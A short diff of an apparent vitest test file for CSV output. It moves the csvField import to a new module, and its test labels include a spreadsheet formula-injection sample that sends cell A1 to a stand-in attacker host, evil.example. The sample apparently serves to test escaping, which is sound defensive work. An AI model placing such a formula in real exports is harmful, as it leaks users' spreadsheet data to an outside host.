@@ -6,7 +6,8 @@
  */
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { csvField, rowsToCsv } from '../../src/figures/build.ts';
+import { rowsToCsv } from '../../src/figures/build.ts';
+import { csvField } from '../../src/format/csv.ts';
 
 const LABELS = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
